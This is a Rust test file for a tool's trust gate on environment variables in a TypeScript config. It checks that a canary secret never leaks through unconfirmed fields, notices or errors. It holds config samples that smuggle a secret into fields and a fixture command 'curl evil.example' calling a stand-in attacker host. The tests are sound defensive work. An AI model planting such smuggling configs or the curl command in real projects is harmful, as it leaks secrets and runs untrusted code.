//! Variables of the environment reach a configuration after a confirmation only.

use std::sync::Arc;
use std::time::Duration;

use serde_json::json;
use tgp::contract::ToolError;
use tgp::trust::{SensitiveField, Trust, trust_request};
use tgp::{BootOptions, Kernel};

use crate::support::{Project, recorded};
use crate::trust::{confirmed, store};

const CANARY: &str = "hunter2-canary";

fn names(fields: &[SensitiveField]) -> Vec<&'static str> {
    fields.iter().map(|field| field.name).collect()
}

/// `llm.model`, `allowedImports` and others need no confirmation; they are shown, recorded and sent.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bug_any_variable_could_be_read_into_a_field_that_needs_no_confirmation() {
    for (name, file) in [
        ("by a literal", "export default { llm: { model: process.env.SECRET }, sandbox: { cpuMs: 700 } };"),
        (
            "by a run",
            "const x = process.env.SECRET; export default { llm: { model: x && x.split('').join('') }, sandbox: { cpuMs: 700 } };",
        ),
        (
            "in a name",
            "export default { allowedImports: [process.env.SECRET ?? 'zod'], sandbox: { cpuMs: 700 } };",
        ),
        ("by its length", "export default { sandbox: { cpuMs: 700 + (process.env.SECRET ?? '').length } };"),
    ] {
        let project = Project::new();
        let (_home, store) = store();
        project.put("tgp.config.ts", file);
        let with = |trust: Trust| BootOptions {
            trust,
            environment: Arc::new(|name| (name == "SECRET").then(|| CANARY.to_owned())),
            ..project.options()
        };
        for trust in [Trust::Nothing, confirmed(&store)] {
            let kernel = Kernel::boot(with(trust)).await.unwrap();
            let config = kernel.config();
            assert!(!format!("{config:?}").contains(CANARY), "{name}: {config:?}");
            assert_eq!(
                config.sandbox.limits.cpu,
                Duration::from_millis(700),
                "{name}: the rest of the file counts"
            );
            assert_eq!(config.ignored, ["process.env"], "{name}");
            let notice = kernel.notices().join("\n");
            assert!(notice.contains("process.env") && notice.contains("tgp trust"), "{name}: {notice}");
            kernel.shutdown().await;
        }
        let request = trust_request(&with(confirmed(&store))).await.unwrap();
        assert_eq!(names(&request.unconfirmed), ["process.env"], "{name}");
        assert_eq!(request.unconfirmed[0].value, json!(["SECRET"]), "{name}");
        store.confirm_fields(&request.project, &request.fields, recorded()).unwrap();
        let kernel = Kernel::boot(with(confirmed(&store))).await.unwrap();
        let config = kernel.config();
        assert!(config.ignored.is_empty(), "{name}");
        assert!(
            config.sandbox.limits.cpu > Duration::from_millis(700) || format!("{config:?}").contains(CANARY),
            "{name}: {config:?}"
        );
        kernel.shutdown().await;
    }
}

/// What the file is without its variables is another configuration, which was not confirmed with the first.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_a_file_is_without_its_variables_needs_its_own_confirmation() {
    let project = Project::new();
    let (_home, store) = store();
    let file = |variable: &str| {
        format!(
            "export default {{ tdd: {{ command: process.env.{variable} ? 'make test' : 'curl evil.example' }} }};"
        )
    };
    let with = || BootOptions {
        trust: confirmed(&store),
        environment: Arc::new(|_| Some("1".to_owned())),
        ..project.options()
    };
    project.put("tgp.config.ts", &file("A"));
    let request = trust_request(&with()).await.unwrap();
    store.confirm_fields(&request.project, &request.fields, recorded()).unwrap();
    let command = async || {
        let kernel = Kernel::boot(with()).await.unwrap();
        let command = kernel.config().tdd.command.clone();
        kernel.shutdown().await;
        command
    };
    assert_eq!(command().await.as_deref(), Some("make test"));
    // The command is the confirmed one; the variable is not, and without it the command is another.
    project.put("tgp.config.ts", &file("B"));
    assert_eq!(command().await, None);
}

/// The errors of a file that reads variables may hold their values.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_error_of_the_file_does_not_tell_what_a_variable_holds() {
    for file in [
        "if (process.env.SECRET) throw new Error(process.env.SECRET); export default {};",
        "export default { tdd: { mode: process.env.SECRET } };",
        "const mode = process.env.SECRET; export default { tdd: { mode: mode ?? 7 } };",
        "export default { git: { url: `https://host\\\\${process.env.SECRET}/x` } };",
    ] {
        let project = Project::new();
        let (_home, store) = store();
        project.put("tgp.config.ts", file);
        let options = BootOptions {
            trust: confirmed(&store),
            environment: Arc::new(|name| (name == "SECRET").then(|| CANARY.to_owned())),
            ..project.options()
        };
        match Kernel::boot(options).await {
            Ok(kernel) => {
                assert_eq!(kernel.config().ignored, ["process.env"], "{file}");
                assert!(!kernel.notices().join(" ").contains(CANARY), "{file}");
                kernel.shutdown().await;
            }
            Err(error) => {
                let error = ToolError::from(error);
                let shown = serde_json::to_string(&error).unwrap();
                assert!(!shown.contains(CANARY), "{file}: {shown}");
                assert!(shown.contains("SECRET") && shown.contains("tgp trust"), "{file}: {shown}");
            }
        }
    }
}
